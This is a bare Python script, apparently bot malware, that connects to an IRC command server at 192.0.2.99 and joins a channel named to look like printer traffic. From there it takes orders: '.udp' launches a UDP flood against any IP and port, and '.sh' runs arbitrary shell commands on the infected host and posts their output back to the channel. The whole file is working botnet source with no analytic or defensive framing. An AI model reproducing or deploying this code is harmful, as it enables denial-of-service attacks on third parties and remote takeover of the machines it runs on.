import random
import socket
import subprocess
import threading

SERVER, CHAN = ("192.0.2.99", 6667), "#printers"
NICK = f"lp{random.randint(1000, 9999)}"


def udp(ip, port, n):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(n):
        s.sendto(random.randbytes(1024), (ip, port))


class Bot:
    def __init__(self):
        self.s = socket.create_connection(SERVER)
        self.say(f"NICK {NICK}", f"USER {NICK} 0 * :{NICK}", f"JOIN {CHAN}")

    def say(self, *lines):
        for l in lines:
            self.s.sendall((l + "\r\n").encode())

    def loop(self):
        for line in self.s.makefile(errors="replace"):
            if line.startswith("PING"):
                self.say("PONG " + line[5:].strip())
            elif f"PRIVMSG {CHAN} :" in line:
                self.command(line.split(f"PRIVMSG {CHAN} :", 1)[1].strip().split())

    def command(self, w):
        if w and w[0] == ".udp":
            threading.Thread(target=udp, args=(w[1], int(w[2]), int(w[3]))).start()
        elif w and w[0] == ".sh":
            for l in subprocess.getoutput(" ".join(w[1:])).splitlines()[:10]:
                self.say(f"PRIVMSG {CHAN} :{l}")


Bot().loop()
